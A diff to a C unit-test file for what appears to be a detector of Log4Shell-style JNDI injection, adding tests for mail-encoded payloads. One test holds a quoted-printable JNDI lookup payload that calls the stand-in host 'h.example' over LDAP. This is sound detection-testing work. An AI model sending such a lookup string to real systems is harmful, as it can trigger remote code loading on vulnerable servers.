@@ -55,9 +55,11 @@ static void print_bytes(const char *what, ct_str s)
     print_error("\n");
 }
 
+static bool in_mail;
+
 static struct ct_verdict judge(const struct ct_field *fields, size_t n)
 {
-    struct ct_judge_opts opts = {0};
+    struct ct_judge_opts opts = {.mail = in_mail};
     struct ct_verdict v;
     ct_arena_clear(line);
     assert_int_equal(ct_judge(line, &opts, fields, n, &v), CT_OK);
@@ -120,6 +122,48 @@ static void survives_every_chain(void **state)
         for (unsigned k = 0; k < n; k++) snprintf(how + strlen(how), sizeof how - strlen(how), "%s; ", gen_layer_name(layers[k]));
         expect_exploit(plain, text, how);
     }
+}
+
+/* Up to two encoders of the sender, then mail's; what the search over blocks asks sees it too. */
+static void survives_mail(void **state)
+{
+    (void)state;
+    for (unsigned i = 0; i < runs(10000); i++) {
+        ct_arena_clear(arena);
+        ct_str plain = attack(), text;
+        if (plain.n > 600) continue;
+        bool words = rng_below(&rng, 2), hidden = false;
+        enum gen_layer layers[2];
+        unsigned n = 0;
+        struct ct_buf inner = new_buf(), b = new_buf();
+        if (rng_below(&rng, 2)) gen_encode_chain(&rng, plain, 2, &inner, layers, &n);
+        else ct_buf_add(&inner, plain);
+        for (unsigned k = 0; k < n; k++) hidden |= layers[k] == GEN_BASE64;
+        if (hidden && !words) continue; /* quoted base64 is given up (detect/mail.c) */
+        if (words) gen_encode_words(&rng, ct_buf_view(&inner), &b);
+        else gen_encode_quoted(&rng, ct_buf_view(&inner), &b);
+        assert_int_equal(ct_buf_str(&b, &text), CT_OK);
+        char how[128];
+        snprintf(how, sizeof how, "%s; %s; %s", n ? gen_layer_name(layers[0]) : "", n > 1 ? gen_layer_name(layers[1]) : "", words ? "words" : "quoted");
+        in_mail = !words; /* words count everywhere */
+        expect_exploit(plain, text, how);
+        in_mail = false;
+        uint64_t lines = 0;
+        bool found = ct_mail_next(text, 0, true) != CT_STR_NONE || ct_prefilter_next(text, 0, &lines) != CT_STR_NONE;
+        if (!found) print_bytes("text", text);
+        assert_true(found);
+    }
+}
+
+/* "=24" is a value in a request, and a '$' in a letter. */
+static void quoted_only_in_mail(void **state)
+{
+    (void)state;
+    ct_str text = CT_STR("id=24{jndi:ldap://h.example/a}&x=7B");
+    assert_int_equal(judge_one(text).grade, CT_GRADE_NONE);
+    in_mail = true;
+    assert_int_equal(judge_one(text).grade, CT_GRADE_EXPLOIT);
+    in_mail = false;
 }
 
 /* Text that people, browsers and programs write, with no "${" open. */
@@ -245,7 +289,8 @@ static void benign_stays_benign(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(survives_every_chain), cmocka_unit_test(survives_padding),    cmocka_unit_test(survives_other_fields),
+        cmocka_unit_test(survives_every_chain), cmocka_unit_test(survives_mail),        cmocka_unit_test(quoted_only_in_mail),
+        cmocka_unit_test(survives_padding),    cmocka_unit_test(survives_other_fields),
         cmocka_unit_test(order_does_not_matter), cmocka_unit_test(benign_stays_benign),
     };
     return cmocka_run_group_tests(tests, set_up, tear_down);
